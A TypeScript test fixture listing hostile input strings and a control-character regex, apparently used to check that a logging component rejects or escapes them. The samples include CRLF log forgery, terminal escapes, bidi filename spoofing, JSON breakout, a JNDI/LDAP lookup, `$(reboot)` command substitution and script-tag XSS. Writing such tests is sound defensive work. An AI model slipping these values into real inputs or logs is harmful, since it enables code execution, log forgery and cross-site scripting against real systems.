/** What somebody may send who wants to forge a line, hide one, fill a disk, or be taken for a program. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a forged line': '\r\n{"level":"ERROR","message":"forged","migrationId":"other-0123456789ab"}\r\n',
  'controls of a terminal': '\u001b[2J\u001b]0;title\u0007\u0000\b\u007f\u009b31m',
  'a change of direction': 'safe\u202egnp.exe\u2066\u200b\ufeff',
  'half a character': '\ud800x\udfff',
  'the end of a JSON text': '"}],"status":"completed","x":[{"y":"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: others would fill it in
  'an expression': '{% $states.context %} ${AWS::AccountId} ${jndi:ldap://10.0.0.1/x} $(reboot) `id`',
  'a page': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'a prototype': '__proto__',
  'a hundred thousand characters': 'x'.repeat(100_000),
};

/** Of a whole message. A half of a pair is a control for whoever writes it as UTF-8. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
export const CONTROL = /[\u0000-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2066-\u2069\ufeff]|\p{Cs}/u;
